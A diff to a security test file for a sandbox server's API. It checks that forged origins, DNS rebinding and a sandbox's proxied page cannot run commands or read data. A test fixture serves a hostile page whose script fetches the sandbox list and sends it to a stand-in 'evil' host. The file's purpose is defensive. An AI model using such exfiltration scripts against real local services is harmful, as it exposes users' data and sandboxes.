@@ -3,8 +3,9 @@
 Before the guard, a page that had its own name resolve to 127.0.0.1 (DNS rebinding) read and
 drove the whole keyless API -- ``Host: evil.example`` was served like ``127.0.0.1`` -- and any
 page could open the exec WebSocket of a sandbox. Checked both ways: local clients (the SDK,
-``localhost``, ``[::1]``, a page served from the loopback) go on working. Another user of the
-host is refused too: only the server's own user and root are served without a key.
+``localhost``, ``[::1]``, a page of the server itself) go on working. Another user of the
+host is refused too: only the server's own user and root are served without a key. What a sandbox
+serves, through the server's port proxy or a forwarded port, is never such a page.
 """
 
 from __future__ import annotations
@@ -22,7 +23,7 @@ from websockets.sync.client import connect
 from corral import InvalidSpec, Sandbox
 from corral.server.config import ServerConfig
 
-from .server_fixtures import KEYS, ServerProcess, status_as_user
+from .server_fixtures import KEYS, ServerProcess, free_port, status_as_user
 
 EVIL = "evil.example"
 
@@ -54,19 +55,97 @@ def test_a_foreign_page_cannot_run_a_command_a_local_one_can(keyless: ServerProc
         for origin in (f"http://{EVIL}", "null", f"http://127.0.0.1.{EVIL}", f"https://{EVIL}:{keyless.port}"):
             refused = http.post(exec_url, json={"cmd": "touch /tmp/ran"}, headers={"origin": origin})
             assert (refused.status_code, refused.json()["error"]) == (403, "forbidden_origin"), refused.text
+        # pages on the loopback that are not the server's: another local site, a sandbox's forwarded
+        # port (``sb.ports.expose`` of a library sandbox: another loopback port; before: served, as
+        # any loopback page was), the server reached by another name
+        forwarded = free_port()
+        for origin in ("http://localhost:5173", f"http://127.0.0.1:{forwarded}", f"http://localhost:{keyless.port}",
+                       f"https://127.0.0.1:{keyless.port}", f"http://127.0.0.1:{keyless.port}/docs"):
+            refused = http.post(exec_url, json={"cmd": "touch /tmp/ran"}, headers={"origin": origin})
+            assert (refused.status_code, refused.json().get("error")) == (403, "forbidden_origin"), (origin, refused.text)
         assert not sb.files.exists("/tmp/ran")
-        local_page = http.post(exec_url, json={"cmd": "echo ok"}, headers={"origin": "http://localhost:5173"})
-        assert local_page.json()["stdout"] == "ok\n"
+        for host, origin in ((f"127.0.0.1:{keyless.port}", f"http://127.0.0.1:{keyless.port}"),
+                             (f"localhost:{keyless.port}", f"http://LOCALHOST:{keyless.port}"),
+                             ("localhost", "http://localhost:80")):  # the server's own pages (/docs)
+            own_page = http.post(exec_url, json={"cmd": "echo ok"}, headers={"origin": origin, "host": host})
+            assert own_page.json()["stdout"] == "ok\n", (host, origin)
 
         ws_url = keyless.url.replace("http", "ws") + f"/v1/sandboxes/{sb.id}/exec/stream"
         with pytest.raises(InvalidStatus) as refused_ws:
             connect(ws_url, origin=f"http://{EVIL}", open_timeout=10)  # type: ignore[arg-type]
         assert refused_ws.value.response.status_code == 403
+        with pytest.raises(InvalidStatus) as refused_ws:  # a sandbox's forwarded page: not the server's
+            connect(ws_url, origin=f"http://127.0.0.1:{forwarded}", open_timeout=10)  # type: ignore[arg-type]
+        assert refused_ws.value.response.status_code == 403
+        with connect(ws_url, origin=keyless.url, open_timeout=10) as ws:  # type: ignore[arg-type]
+            ws.send(json.dumps({"cmd": "echo own page", "timeout": 10}))
+            frames = [json.loads(ws.recv(timeout=10)) for _ in range(3)]
+        assert {"type": "stdout", "data": "own page\n"}.items() <= frames[1].items(), frames
         with connect(ws_url, open_timeout=10) as ws:
             ws.send(json.dumps({"cmd": "echo streamed", "timeout": 10}))
             frames = [json.loads(ws.recv(timeout=10)) for _ in range(3)]
         assert {"type": "stdout", "data": "streamed\n"}.items() <= frames[1].items(), frames
         assert not sb.files.exists("/tmp/ran")
+
+
+HOSTILE_APP = """
+import http.server
+
+class Page(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = b"<script>fetch('/v1/sandboxes').then(r => r.text()).then(t => fetch('//evil/?' + t))</script>"
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(body)))
+        self.send_header("Service-Worker-Allowed", "/")
+        self.send_header("Clear-Site-Data", '"cookies", "storage"')
+        self.send_header("Content-Security-Policy", "img-src 'self'")
+        self.send_header("Set-Cookie", "a=1; Expires=Wed, 21 Oct 2037 07:28:00 GMT; Path=/")
+        self.send_header("Set-Cookie", "b=2; Path=/")
+        self.end_headers()
+        self.wfile.write(body)
+
+http.server.ThreadingHTTPServer(("127.0.0.1", 8000), Page).serve_forever()
+"""
+
+
+def test_a_sandboxs_page_through_the_proxy_is_sandboxed_not_the_servers(keyless: ServerProcess) -> None:
+    """The proxy serves a sandbox's answers on the server's own origin: a page shown from there was
+    same-origin with the API (its script read the sandbox list, and could run commands in the
+    user's other sandboxes and register a service worker over the whole origin). Now every answer
+    is a sandboxed page (an opaque origin: its requests say ``Origin: null``, refused), the
+    sandbox's own policy kept beside, and headers acting on the whole origin dropped."""
+    with Sandbox.create(url=keyless.url) as sb, keyless.client() as http:
+        sb.files.write("/tmp/app.py", HOSTILE_APP)
+        sb.commands.run("exec python3 /tmp/app.py", background=True)
+        page_url = f"/v1/sandboxes/{sb.id}/ports/8000/"
+
+        def page() -> httpx.Response | None:
+            answer = http.get(page_url)
+            return answer if answer.status_code == 200 else None
+
+        deadline = 100
+        answer = None
+        for _ in range(deadline):  # until the app listens (bounded: 10 s)
+            if (answer := page()) is not None:
+                break
+            import time
+
+            time.sleep(0.1)
+        assert answer is not None and b"<script>" in answer.content
+        policies = answer.headers.get_list("content-security-policy")
+        sandboxing = [p for p in policies if p.startswith("sandbox")]
+        assert len(sandboxing) == 1 and "allow-scripts" in sandboxing[0], policies
+        assert "allow-same-origin" not in sandboxing[0] and "allow-top-navigation" not in sandboxing[0]
+        assert "img-src 'self'" in policies  # the sandbox's own policy still applies beside
+        assert "service-worker-allowed" not in answer.headers and "clear-site-data" not in answer.headers
+        assert answer.headers.get_list("set-cookie") == [  # two cookies, not one comma-joined header
+            "a=1; Expires=Wed, 21 Oct 2037 07:28:00 GMT; Path=/", "b=2; Path=/"]
+        # what the page's script sends from its opaque origin is refused; the same from the
+        # server's own page (/docs) is served
+        as_page = http.get("/v1/sandboxes", headers={"origin": "null"})
+        assert (as_page.status_code, as_page.json()["error"]) == (403, "forbidden_origin")
+        assert http.get("/v1/sandboxes", headers={"origin": keyless.url}).status_code == 200
 
 
 def test_another_user_of_the_host_is_refused(keyless: ServerProcess) -> None:
